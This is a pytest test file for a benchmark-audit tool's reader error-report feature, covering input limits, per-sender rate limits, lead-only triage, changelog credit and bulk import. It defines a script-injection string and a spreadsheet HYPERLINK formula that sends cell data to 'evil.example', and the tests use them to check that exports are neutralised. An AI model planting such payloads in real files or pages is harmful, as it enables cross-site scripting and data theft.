"""Error reports from readers outside the team (audit.review.reports),
through the library and the command line: never a verdict, raises its item,
limited per sender and in size, inert wherever it is shown or exported,
triaged by a lead, and credited in the next version."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

import audit
from audit.accounts import add_account
from audit.errors import InputError, NotFoundError, PermissionDeniedError, RateLimitedError
from audit.review import item_view, report_error, review_queue, review_status, settled_verdicts
from audit.review.reports import RATE_LIMIT, import_reports, list_reports, triage_report
from tests.support.campaign import analysed_benchmark
from tests.support.cli_process import run_audit

pytestmark = pytest.mark.slow   # real DuckDB files, analysed benchmarks, subprocesses: tens of seconds

B = "trust"
PW = "a long password 1"
ADMIN, LEAD = "Admin Nyima", "Lead Dolkar"
REPO = Path(__file__).resolve().parents[2]
SCRIPT = "<script>window.__pwned = 1</script> the key is wrong"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def bench(db_path):
    keys = analysed_benchmark(db_path)
    add_account(ADMIN, PW, db=db_path)
    add_account(LEAD, PW, role="lead", actor=ADMIN, db=db_path)
    add_account("Pema", PW, actor=ADMIN, db=db_path)
    return db_path, keys


def _cli(args, db, stdin=None):
    return run_audit([*args, "--db", str(db)], module="audit", cwd=REPO, input=stdin, timeout=120)


def _tables(db) -> dict:
    with audit.connect(db, read_only=True) as con:
        return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall()
                for t in ("reviews", "questions", "key_versions", "key_version_items", "gold_items")}


def test_checked_and_size_limited(bench):
    db, keys = bench
    with pytest.raises(NotFoundError):
        report_error(B, "nope", "wrong", db=db)
    with pytest.raises(InputError, match="at most 2000"):
        report_error(B, "t001", "x" * 2001, db=db)
    with pytest.raises(InputError, match="not one of the item's options"):
        report_error(B, "t001", "wrong", answer="F", db=db)
    with pytest.raises(InputError, match="at most 80"):
        report_error(B, "t001", "wrong", name="n" * 81, db=db)
    with pytest.raises(InputError, match="what is wrong"):
        report_error(B, "t001", " \u200b\x00 ", db=db)
    r = report_error(B, "t001", "fine\x07 text", answer="ཁ", db=db)
    assert list(vars(r)) == ["report_id"]            # a receipt and nothing else
    got = list_reports(B, actor=LEAD, db=db).iloc[0]
    assert (got["text"], got["suggested_answer"]) == ("fine text", "B")


def test_never_a_verdict_but_raises_its_item(bench):
    db, keys = bench
    before = _tables(db)
    status0, settled0 = review_status(B, db=db), settled_verdicts(B, db=db)
    q0 = review_queue(B, db=db)                                        # Tier 1–2
    low = review_queue(B, tiers=[5], db=db)["question_id"].iloc[-1]  # a Tier 5 item, not in the Tier 1–2 queue
    assert low not in set(q0["question_id"])
    report_error(B, low, SCRIPT, answer="C", name="Tsering", contact="t@example.org", sender="198.51.100.7", db=db)
    assert _tables(db) == before
    assert review_status(B, db=db).equals(status0) and settled_verdicts(B, db=db).equals(settled0)
    q1 = review_queue(B, db=db)
    assert q1["question_id"].iloc[0] == low and int(q1["n_reports"].iloc[0]) == 1   # first, and let in
    v = item_view(B, low, reviewer="Pema", db=db)
    assert [r.text for r in v.reports] == [SCRIPT] and v.reports[0].suggested_answer == "C"
    # a dismissed report leaves the item where it was
    rid = list_reports(B, actor=LEAD, db=db)["report_id"].iloc[0]
    assert triage_report(rid, accept=False, actor=LEAD, db=db) == "dismissed"
    assert review_queue(B, db=db)["question_id"].tolist() == q0["question_id"].tolist()
    assert item_view(B, low, reviewer="Pema", db=db).reports == []


def test_the_21st_report_from_one_sender_in_an_hour_is_refused(bench):
    db, keys = bench
    for i in range(RATE_LIMIT):
        report_error(B, f"t{i:03d}", f"report {i}", contact="Same@Example.org", db=db)
    r = _cli(["review", "report-error", "--benchmark", B, "--question", "t030", "--text", "one more",
              "--contact", "same@example.org"], db)
    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1 and "too many reports" in r.stderr
    with pytest.raises(RateLimitedError):
        report_error(B, "t030", "again", sender="same@example.org", db=db)
    # another sender is not held back, and the refused report was not stored
    report_error(B, "t030", "someone else", contact="other@example.org", db=db)
    assert len(list_reports(B, actor=LEAD, db=db)) == RATE_LIMIT + 1
    # no address or contact is kept for the limit: only a keyed hash
    with audit.connect(db, read_only=True) as con:
        keys_ = {k for (k,) in con.execute("SELECT DISTINCT sender_key FROM error_reports").fetchall()}
    assert all(len(k) == 64 and "example" not in k for k in keys_)


def test_triage_is_a_leads_act_and_credit_lands_in_the_next_version(bench, tmp_path):
    db, keys = bench
    out = tmp_path / "exports"
    r1 = report_error(B, "t004", SCRIPT, answer="A", name=FORMULA, contact="x@example.org", db=db).report_id
    r2 = report_error(B, "t008", "ambiguous wording", db=db).report_id   # anonymous
    r3 = report_error(B, "t012", "dismiss me", name="Nobody", db=db).report_id
    with pytest.raises(PermissionDeniedError):
        triage_report(r1, accept=True, actor="Pema", db=db)
    with pytest.raises(PermissionDeniedError):
        list_reports(B, actor="Pema", db=db)
    res = _cli(["review", "reports", "--benchmark", B, "--accept", r1, "--as", LEAD, "--password-stdin"], db,
               stdin=PW + "\n")
    assert res.returncode == 0 and "accepted" in res.stdout, res.stderr
    triage_report(r2, accept=True, actor=LEAD, db=db)
    triage_report(r3, accept=False, actor=LEAD, db=db)
    listed = json.loads(_cli(["review", "reports", "--benchmark", B, "--format", "json", "--as", LEAD,
                              "--password-stdin"], db, stdin=PW + "\n").stdout)
    assert {x["report_id"]: x["status"] for x in listed} == {r1: "accepted", r2: "accepted", r3: "dismissed"}
    before = {k: v for k, v in _tables(db).items() if not k.startswith("key_version")}
    audit.export.create_version(B, "1.1", actor=LEAD, db=db, exports_dir=out)
    assert {k: v for k, v in _tables(db).items() if not k.startswith("key_version")} == before
    folder = out / B / "1.1"
    log = list(csv.DictReader(io.StringIO((folder / "CHANGELOG.csv").read_text(encoding="utf-8-sig"))))
    by = {r["question_id"]: r for r in log}
    assert by["t004"]["reported_by"] == "'" + FORMULA and by["t004"]["action"] == "unchanged"   # neutralised
    assert by["t008"]["reported_by"] == "an anonymous reader" and "t012" not in by
    sheet = (folder / "DATASHEET.md").read_text(encoding="utf-8")
    assert "Thanks to readers who reported errors" in sheet and "HYPERLINK" in sheet and "An anonymous reader" in sheet
    # the report text itself goes nowhere; nothing in any file is live markup or a formula cell
    for f in (p for p in folder.rglob("*") if p.is_file()):      # the hf/ layout too
        text = f.read_bytes().decode("utf-8", errors="replace")
        assert "<script>" not in text and "window.__pwned" not in text, f.name
        if f.suffix == ".csv":
            for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
                assert not any(c[:1] in ("=", "+", "@") for c in row), (f.name, row)
    # credited once: the next version does not repeat it, and a credited report stays accepted
    audit.export.create_version(B, "1.2", actor=LEAD, db=db, exports_dir=out)
    log2 = (out / B / "1.2" / "CHANGELOG.csv").read_text(encoding="utf-8-sig")
    assert "HYPERLINK" not in log2 and "anonymous reader" not in log2
    with pytest.raises(InputError, match="credited in version 1.1"):
        triage_report(r1, accept=False, actor=LEAD, db=db)


def test_import_of_a_file_of_reports(bench, tmp_path):
    db, keys = bench
    good = tmp_path / "issues.json"
    good.write_text(json.dumps([{"question_id": "t001", "text": "from an issue thread", "answer": "B", "name": "Karma"},
                                {"question_id": "t002", "text": FORMULA}]), encoding="utf-8")
    with pytest.raises(PermissionDeniedError):
        import_reports(good, benchmark=B, actor="Pema", db=db)
    bad = tmp_path / "bad.csv"
    bad.write_text("question_id,text\nt001,fine\nnope,bad item\n", encoding="utf-8")
    with pytest.raises(InputError, match="bad.csv:3"):
        import_reports(bad, benchmark=B, actor=LEAD, db=db)
    assert list_reports(B, actor=LEAD, db=db).empty                                   # all or nothing
    r = _cli(["import", "reports", str(good), "--benchmark", B, "--as", LEAD, "--password-stdin"], db,
             stdin=PW + "\n")
    assert r.returncode == 0 and "2 error report(s)" in r.stdout, r.stderr
    got = list_reports(B, actor=LEAD, db=db).set_index("question_id")
    assert got.loc["t001", "name"] == "Karma" and set(got["status"]) == {"open"}
